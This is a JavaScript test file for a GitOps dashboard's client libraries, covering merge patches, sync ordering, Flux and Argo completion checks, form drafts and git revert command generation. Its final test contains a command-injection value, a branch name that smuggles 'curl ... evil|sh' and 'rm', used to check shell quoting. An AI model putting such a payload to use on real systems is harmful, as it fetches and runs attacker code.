import assert from "node:assert/strict";
import test from "node:test";
const lib = "../../../../src/trueup/server/pages/static/lib";
const { chartsOf, endOf, helpFor, isIdle, plainValue, restartedOf, stepsOf, turnsOf } = await import(`${lib}/plan.js`);
const { mergePatch, patched, same } = await import(`${lib}/mergepatch.js`);
const { FORMS, joined, lineOf, manifestsOf, missingOf, startOf, valueAt, withValue } = await import(`${lib}/drafts.js`);
const { inTurn, whyNot } = await import(`${lib}/bulk.js`);
const { branchOf, revertCommands } = await import(`${lib}/shell.js`);

const ref = (kind, name, group = "") => ({ group, kind, namespace: "shop", name });
const planned = (kind, name, action, more = {}) => ({ ref: ref(kind, name, more.group), action, phase: "Sync", wave: 0, fields: [], ...more });

test("a merge patch makes the one object of the other, and says nothing of what is the same", () => {
  let seed = 11;
  const random = () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff;
  const value = (depth) => (depth && random() < 0.6 ? Object.fromEntries(Array.from({ length: 3 }, () => ["abcd"[Math.floor(random() * 4)], value(depth - 1)])) : random() < 0.3 ? [1, { a: Math.floor(random() * 2) }] : Math.floor(random() * 3));
  for (let i = 0; i < 500; i += 1) {
    const [before, after] = [{ x: value(3) }, { x: value(3) }];
    assert.deepEqual(patched(before, mergePatch(before, after)), after);
    assert.deepEqual(mergePatch(before, before), {});
  }
  assert.deepEqual(mergePatch({ data: { key: "++++" }, spec: { a: 1, b: 2 } }, { data: { key: "++++" }, spec: { a: 1 } }), { spec: { b: null } });
  assert.ok(same({ a: 1, b: 2 }, { b: 2, a: 1 }));
});

test("objects stand in the turns of the sync, and deletions last", () => {
  const turns = turnsOf([planned("Namespace", "shop", "created", { wave: -1 }), planned("Service", "web", "created"), planned("Deployment", "web", "configured"), planned("ConfigMap", "old", "pruned")]);
  assert.deepEqual(turns.map((turn) => [turn.phase, turn.wave, turn.objects.length]), [["Sync", -1, 1], ["Sync", 0, 2], ["prune", 0, 1]]);
});

test("what rolls pods is told from what only scales them", () => {
  const image = planned("Deployment", "web", "configured", { group: "apps", fields: [{ path: "spec.template.spec.containers[0].image" }] });
  const scale = planned("Deployment", "api", "configured", { group: "apps", fields: [{ path: "spec.replicas" }] });
  assert.deepEqual(restartedOf([image, scale]), [image]);
});

test("a release's chart is named once, and as a whole where another takes its place", () => {
  const of = (current, becomes, wanted = becomes) => chartsOf({ current, becomes, wanted });
  assert.deepEqual(of("", "web@1.0.0"), { name: "web", from: "", to: "1.0.0" });
  assert.deepEqual(of("web@1.0.0", "web@2.0.0+abc"), { name: "web", from: "1.0.0", to: "2.0.0+abc" });
  assert.deepEqual(of("web@1.0.0", "shop@1.0.0"), { name: "", from: "web@1.0.0", to: "shop@1.0.0" });
  assert.deepEqual(of("web@2.0.0", "web@1.0.0", "web@2.0.0"), { name: "web", from: "2.0.0", to: "1.0.0" });
  assert.deepEqual(of("web@1.0.0", "", "web@1.0.0"), { name: "web", from: "1.0.0", to: "" });
  assert.deepEqual(["2", '"a b"', '"cut sho…', ""].map(plainValue), ["2", "a b", "cut sho…", ""]);
});

test("a plan that changes no object may still make a release", () => {
  const plan = (action) => ({ objects: [planned("Service", "web", "unchanged")], release: action && { action } });
  assert.deepEqual(["", "none", "upgrade", "test"].map((action) => isIdle(plan(action))), [true, true, false, false]);
});

test("each object is followed by what the sync reports, else by the tree", () => {
  const objects = [planned("ConfigMap", "a", "created"), planned("Deployment", "web", "configured", { group: "apps" }), planned("Job", "x", "created"), planned("Service", "old", "pruned")];
  const node = (id, health, sync = "Synced") => ({ id, health, sync, message: "2 of 3 pods are ready" });
  const stages = (rows, nodes) => stepsOf(objects, rows, nodes, false).map((step) => step.stage);
  assert.deepEqual(stages([], [node("Service/shop/old", "")]), ["waiting", "waiting", "waiting", "waiting"]);
  assert.deepEqual(stages([{ kind: "ConfigMap", namespace: "shop", name: "a", status: "Synced" }, { kind: "Job", namespace: "shop", name: "x", status: "SyncFailed", message: "no" }], [node("Deployment.apps/shop/web", "Progressing")]), ["done", "applied", "failed", "done"]);
});

test("a sync is over when its own request was answered, not an earlier one", () => {
  const flux = (status) => ({ kind: "Kustomization", metadata: { resourceVersion: "12" }, status });
  const asked = { token: "t2", version: "11" };
  const ready = [{ type: "Ready", status: "True", message: "applied" }];
  assert.equal(endOf(flux({ lastHandledReconcileAt: "t1", conditions: ready }), asked, "Ready"), null);
  assert.equal(endOf(flux({ lastHandledReconcileAt: "t2", conditions: ready }), asked, "Progressing"), null);
  assert.deepEqual(endOf(flux({ lastHandledReconcileAt: "t2", conditions: ready }), asked, "Ready"), { succeeded: true, message: "applied" });
  const argo = (operation, phase, resourceVersion = "12") => ({ kind: "Application", metadata: { resourceVersion }, ...(operation ? { operation } : {}), status: { operationState: { phase, message: "m" } } });
  assert.equal(endOf(argo({}, "Succeeded"), asked, "Ready"), null);
  assert.equal(endOf(argo(null, "Succeeded", "9"), asked, "Ready"), null);
  assert.deepEqual(endOf(argo(null, "Failed"), asked, "Failed"), { succeeded: false, message: "m" });
});

test("advice fits what went wrong", () => {
  const cases = { "spec.selector: field is immutable": "immutable", 'namespaces "x" not found': "namespace", "admission webhook denied the request": "policy", "kustomize build: no such file": "render", "cannot pull image x:1": "health", "x": "other" };
  for (const [message, help] of Object.entries(cases)) assert.equal(helpFor(message), help, message);
});

test("a form's values stand where the YAML has them, and leave nothing empty behind", () => {
  for (const kind of Object.keys(FORMS)) {
    let draft = joined(kind, startOf(kind));
    assert.ok(missingOf(kind, draft).length > 0);
    for (const field of FORMS[kind]) {
      if (field.type) continue;
      const write = (value) => (field.of === "source" ? { ...draft, source: withValue(draft.source, field.path, value) } : { ...draft, app: withValue(draft.app, field.path, value) });
      assert.deepEqual(valueAt(field.of === "source" ? write("x").source : write("x").app, field.path), "x");
      draft = field.must ? write("x") : draft;
    }
    assert.deepEqual(missingOf(kind, draft), []);
    assert.ok(!JSON.stringify(manifestsOf(joined(kind, draft))).includes('""'));
  }
  assert.deepEqual(withValue({ spec: { a: { b: 1 }, c: 2 } }, "spec.a.b", ""), { spec: { c: 2 } });
});

test("the line of a path is found by its place, not by its name alone", () => {
  const text = "metadata:\n  name: web\nspec:\n  sourceRef:\n    kind: GitRepository\n    name: repo\n  prune: true\n";
  assert.deepEqual(["metadata.name", "spec.sourceRef.name", "spec.prune", "spec.name"].map((path) => lineOf(text, path)), [1, 5, 6, -1]);
});

test("what cannot be done with an App is said, and the rest is done so many at a time", async () => {
  const app = { dialect: "flux", suspended: false, operation: null };
  assert.equal(whyNot("sync", app, undefined), "gone");
  assert.equal(whyNot("delete", app, { may: ["sync"] }), "right");
  assert.equal(whyNot("sync", { ...app, suspended: true }, { may: ["sync"] }), "suspended");
  assert.equal(whyNot("sync", app, { may: ["sync"] }), "");
  let now = 0;
  let most = 0;
  const done = [];
  await inTurn([1, 2, 3, 4, 5, 6], 2, async (one) => {
    most = Math.max(most, (now += 1));
    await new Promise((resolve) => setTimeout(resolve, 1));
    now -= 1;
    done.push(one);
  }, () => done.length >= 4);
  assert.equal(most, 2);
  assert.ok(done.length >= 4 && done.length <= 5);
});

test("a branch is one word of the command that people copy, whatever it is called", () => {
  const [from, to] = ["3f2a91c4d0b8a1", "8b1f0e2d3c4b5a"];
  const end = "git pull\ngit revert --no-edit 8b1f0e2d3c4b..3f2a91c4d0b8\ngit push";
  assert.equal(revertCommands(from, to, branchOf("refs/heads/feature/x@sha1:3f2a", "")), `git switch feature/x\n${end}`);
  assert.equal(revertCommands(from, to, branchOf("", "main;curl${IFS}evil|sh'\nrm")), `git switch 'main;curl\${IFS}evil|sh'\\''\nrm'\n${end}`);
  for (const target of ["", "HEAD", "--orphan"]) assert.equal(revertCommands(from, to, branchOf("", target)), end);
});
